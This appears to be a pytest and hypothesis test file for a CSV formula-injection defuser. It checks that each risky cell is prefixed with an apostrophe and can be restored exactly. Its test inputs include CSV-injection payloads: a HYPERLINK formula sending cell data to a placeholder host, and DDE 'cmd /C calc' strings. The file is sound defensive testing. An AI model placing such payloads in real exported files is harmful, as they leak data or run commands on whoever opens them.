"""No cell of a CSV table is a formula to a spreadsheet, and every text can be had back."""

from __future__ import annotations

import csv
import re
from io import StringIO

import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from personae.cells import as_it_stood, defused, defused_frame


def frame_as_it_stood(frame: pl.DataFrame) -> pl.DataFrame:
    def read(texts: pl.Series) -> pl.Series:
        return pl.Series(texts.name, [None if text is None else as_it_stood(text) for text in texts], pl.String)

    texts = [read(frame[name]) for name, kind in frame.schema.items() if kind == pl.String]
    return frame.with_columns(texts).rename({name: as_it_stood(name) for name in frame.columns})


SIGNS = "=+-@＝＋－＠"
DROPPED = ' \t\r\n"\ufeff\u200b\x00\x1c\x85'
TEXTS = st.text(st.sampled_from(SIGNS + " '\"\t\r\n;,|ab1\ufeff\u200b\x00\x1c\x85"), max_size=14) | st.text(max_size=30)


@given(TEXTS)
@example("'=1")
@example("'\t1")
@example(";'=1")
def test_every_text_can_be_had_back(text: str) -> None:
    assert as_it_stood(defused(text)) == text


@settings(max_examples=500)
@given(TEXTS, st.sampled_from(",;\t"))
def test_no_cell_begins_like_a_formula_whatever_separator_it_is_read_with(text: str, separator: str) -> None:
    out = StringIO(newline="")
    csv.writer(out).writerow(["x", defused(text), 1])
    if separator == ",":
        cells = [cell for row in csv.reader(StringIO(out.getvalue(), newline="")) for cell in row]
    else:  # a quote within a cell is no quote to such a reader, so a cell begins after each of these
        cells = re.split(f"[{separator}\r\n]", out.getvalue())
    for cell in cells:
        assert cell.lstrip(DROPPED)[:1] not in tuple(SIGNS), cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.b/?x="&A1)',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "＝1+1",
        " =1",
        "\t=1",
        "\r=1",
        "\tx",
        '"=1',
        "';=1",
        "\ufeff=1",
    ],
)
def test_what_a_spreadsheet_would_compute_is_led_by_an_apostrophe(text: str) -> None:
    assert defused(text)[0] == "'"


@pytest.mark.parametrize("text", ["", "a", "a = b", "1 - 2", "it's", "'quoted'", "x@y.z", "{}", "− 0.5", "a;b"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert defused(text) == text


@given(st.lists(TEXTS | st.none()))
def test_a_frame_is_defused_as_its_texts_are(texts: list[str | None]) -> None:
    frame = pl.DataFrame({"t": texts, "n": [-1.5] * len(texts)}, schema={"t": pl.String, "n": pl.Float64})
    made = defused_frame(frame)
    assert made["t"].to_list() == [text if text is None else defused(text) for text in texts]
    assert_frame_equal(made["n"].to_frame(), frame["n"].to_frame())
    assert_frame_equal(frame_as_it_stood(made), frame)


def test_names_of_columns_are_cells_too() -> None:
    frame = pl.DataFrame({"=a": [1], "b": ["x"]})
    assert defused_frame(frame).columns == ["'=a", "b"]
    assert frame_as_it_stood(defused_frame(frame)).columns == ["=a", "b"]


@pytest.mark.parametrize("sign", ["\n", "'", ";=", "\t'", "=", " "])
def test_a_long_hostile_text_is_read_once(sign: str) -> None:
    """Time that grew with the square of a million signs would not end within a test's."""
    text = sign * (1_000_000 // len(sign))
    assert as_it_stood(defused(text)) == text
